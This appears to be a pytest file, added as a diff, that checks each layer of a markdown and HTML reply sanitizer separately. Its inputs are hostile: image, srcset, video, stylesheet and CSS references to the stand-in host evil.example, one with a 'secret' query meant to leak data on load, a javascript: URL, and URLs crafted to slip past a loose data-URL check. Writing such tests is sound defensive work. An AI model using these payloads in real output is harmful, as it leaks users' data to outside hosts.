@@ -1,0 +1,86 @@
+"""Each layer of the reply sanitizer holds on its own.
+
+Rendering has two layers: the markdown layer turns images with a remote or odd `src` into
+click-only placeholders, and the HTML sanitizer (nh3) drops any `src`/`srcset` that is not an
+inline data image. A bug in one layer must not be hidden by the other, so each is tested
+alone here, and the whole path with inputs built to slip past a loose URL check.
+"""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from app.core import markdown_render as md
+
+
+def _img_sources(html: str) -> list[str]:
+    return re.findall(r"<img\b[^>]*\bsrc=\"([^\"]*)\"", html)
+
+
+@pytest.mark.parametrize(
+    "fragment",
+    [
+        '<img src="https://evil.example/x.png?q=secret">',
+        '<img src="http://127.0.0.1:9/x">',
+        '<img src="//evil.example/x.png">',
+        '<img src="https://evil.example/?data:image/png;base64,AAAA">',
+        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+        '<img src="data:text/html;base64,PGI+">',
+    ],
+)
+def test_html_sanitizer_drops_every_src_that_is_not_an_inline_raster_image(fragment: str) -> None:
+    cleaned = md._sanitize(fragment)
+    assert _img_sources(cleaned) == []
+    assert "evil" not in cleaned and "127.0.0.1" not in cleaned
+
+
+def test_html_sanitizer_drops_srcset_even_beside_a_safe_src() -> None:
+    safe = "data:image/png;base64,iVBORw0KGgo="
+    cleaned = md._sanitize(
+        f'<img src="{safe}" srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">'
+    )
+    assert "srcset" not in cleaned
+    assert "evil.example" not in cleaned
+    assert _img_sources(cleaned) == [safe]  # the inline image itself is kept
+
+
+def test_html_sanitizer_drops_remote_sources_on_other_tags_and_styles() -> None:
+    cleaned = md._sanitize(
+        '<p style="background:url(https://evil.example/p)">a</p>'
+        '<video src="https://evil.example/v.mp4"></video>'
+        '<picture><source srcset="https://evil.example/s.png"></picture>'
+        '<link rel="stylesheet" href="https://evil.example/c.css">'
+    )
+    assert "evil.example" not in cleaned
+
+
+def test_remote_image_with_a_data_url_in_its_query_stays_a_click_only_placeholder() -> None:
+    # A check that looks for "data:image/..." anywhere in the URL (a search, not an
+    # anchored match) would let this one load and send the query to the remote host.
+    html = md.render_markdown("![x](https://evil.example/?data:image/png;base64,AAAA)")
+    assert _img_sources(html) == []
+    assert "[image: x]" in html
+    assert 'href="https://evil.example/?data:image/png;base64,AAAA"' in html
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://evil.example/x.png",
+        " data:image/png;base64,AAAA#https://evil.example/",
+        "DATA:image/png;base64,AAAA\nhttps://evil.example",
+        "javascript:alert(1)//data:image/png;base64,AAAA",
+    ],
+)
+def test_markdown_layer_alone_turns_non_inline_images_into_placeholders(url: str) -> None:
+    # The markdown layer's own output, before nh3 sees it.
+    raw = md._render_md(f"![x]({url})\n")
+    assert "evil.example" not in "".join(_img_sources(raw))
+    assert all(src.startswith("data:image/") for src in _img_sources(raw))
+
+
+def test_inline_data_image_survives_both_layers() -> None:
+    src = "data:image/png;base64,iVBORw0KGgo="
+    assert _img_sources(md.render_markdown(f"![dot]({src})")) == [src]
